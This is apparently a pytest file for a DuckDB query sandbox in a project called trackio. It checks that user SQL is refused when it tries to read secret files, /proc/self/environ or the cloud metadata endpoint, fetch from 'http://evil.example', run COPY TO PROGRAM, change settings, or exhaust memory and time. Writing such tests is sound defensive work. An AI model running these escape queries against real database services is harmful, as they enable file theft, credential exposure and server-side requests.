"""SQL that somebody else wrote: nothing is reached, and nobody else has to wait."""

import threading
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from trackio.dashboard.desk import Desk
from trackio.dashboard.routes import PREFIX, routes
from trackio.errors import InvalidInput, LimitExceeded, TrackioError
from trackio.query.project import Project
from trackio.query.sandbox import run_sql
from trackio.query.view import View
from trackio.store.directory import Directory
from trackio.testing.handmade import HandWriter

SECRET = "hush-hush"


@pytest.fixture
def store(tmp_path: Path) -> Directory:
    (tmp_path / "secret.csv").write_text(f"password\n{SECRET}\n")
    store = Directory(tmp_path / "store")
    writer = HandWriter(store, "p", "run")
    writer.put_meta("run")
    for i in range(10):
        writer.log({"x": float(i)})
    writer.put()
    return store


@pytest.fixture
def view(store: Directory) -> View:
    return Project(store, "p").view()


def files(folder: Path) -> list[tuple[str, bytes]]:
    return sorted((str(p), p.read_bytes()) for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM '{secret}'",
        "SELECT * FROM read_csv('{secret}')",
        "SELECT (SELECT content FROM read_text('{secret}'))",
        "SELECT * FROM metrics WHERE key IN (SELECT content FROM read_text('{secret}'))",
        "SELECT * FROM glob('{folder}/**')",
        "SELECT * FROM read_blob('/proc/self/environ')",
        "SELECT * FROM 'https://example.org/x.parquet'",
        "SELECT * FROM read_json('http://169.254.169.254/latest/meta-data')",
        "SELECT * FROM iceberg_scan('s3://x')",
        "SELECT * FROM sqlite_scan('{secret}', 't')",
        "COPY metrics TO '{folder}/out.csv'",
        "COPY (SELECT 1) TO PROGRAM 'touch {folder}/made'",
        "ATTACH '{folder}/new.db'",
        "EXPORT DATABASE '{folder}/out'",
        "INSTALL httpfs",
        "LOAD '{secret}'",
        "FORCE INSTALL httpfs FROM 'http://evil.example'",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "SET memory_limit = '100GB'",
        "SET threads = 10000",
        "PRAGMA database_list",
        "PRAGMA enable_profiling = 'json'",
        "CREATE OR REPLACE VIEW metrics AS SELECT 1",
        "CREATE MACRO m() AS TABLE SELECT 1",
        "CREATE SECRET s (TYPE s3)",
        "SELECT getenv('HOME')",
        "SELECT * FROM duckdb_settings()",
        "SELECT current_setting('home_directory'); SELECT 1",
        "CALL dbgen(sf=100)",
        "WITH x AS (COPY (SELECT 1) TO '{folder}/out.csv') SELECT 1",
        "SELECT * FROM query('SELECT 1')",
        "DESCRIBE SELECT * FROM '{secret}'",
        "SUMMARIZE '{secret}'",
        "EXPLAIN ANALYZE SELECT * FROM '{secret}'",
    ],
)
def test_sql_reaches_no_file_no_network_and_no_setting(
    view: View, tmp_path: Path, sql: str
) -> None:
    """One error of ours; nothing was read, written or changed, and the next query works."""
    before = files(tmp_path)
    with pytest.raises(InvalidInput) as caught:
        run_sql(view, sql.format(secret=tmp_path / "secret.csv", folder=tmp_path))
    assert SECRET not in str(caught.value)
    assert before == files(tmp_path)
    assert [{"n": 10}] == run_sql(view, "SELECT count(*) AS n FROM metrics").to_pylist()


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT length(repeat('x', 4000000000))",
        "SELECT list(range) FROM range(300000000)",
    ],
)
def test_one_huge_value_is_refused_by_the_system(view: View, sql: str) -> None:
    """One call makes it, between two looks at the limits."""
    with pytest.raises(TrackioError):
        run_sql(view, sql, max_memory="300MB", max_seconds=20)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT levenshtein(repeat('a', 300000), repeat('b', 300000))",
        "SELECT editdist3(repeat('a', 300000), repeat('b', 300000))",
        "SELECT damerau_levenshtein(repeat('a', 300000), repeat('b', 300000))",
        "SELECT count(*) FROM metrics WHERE Levenshtein(repeat(key, 300000), run) > 1",
    ],
)
def test_a_call_that_could_not_be_stopped_is_not_begun(view: View, sql: str) -> None:
    """Work that grows with the square of a text is done in one go, beyond the limit of time."""
    with pytest.raises(InvalidInput, match="is refused"):
        run_sql(view, sql)


def test_a_cross_join_stalls_nobody(store: Directory, view: View) -> None:
    """While several of them use up their time, every page answers."""
    http = TestClient(Starlette(routes=routes(Desk(store))))
    endless = "SELECT count(*) FROM range(10000000) a, range(10000000) b WHERE a.range < b.range"
    ended: list[type[BaseException]] = []
    begun = threading.Barrier(4)

    def join() -> None:
        begun.wait()
        try:
            run_sql(view, endless, max_seconds=4)
        except TrackioError as exc:
            ended.append(type(exc))

    threads = [threading.Thread(target=join) for _ in range(3)]
    for thread in threads:
        thread.start()
    begun.wait()
    answered = 0
    while any(thread.is_alive() for thread in threads) and answered < 5:
        for path in ("projects.json", "meta.json", "runs.json", "alerts.json", "health.json"):
            assert http.get(f"{PREFIX}/{path}", params={"project": "p"}).status_code in (200, 404)
        answered += 1
    assert 5 == answered
    for thread in threads:
        thread.join()
    assert [LimitExceeded] * 3 == ended
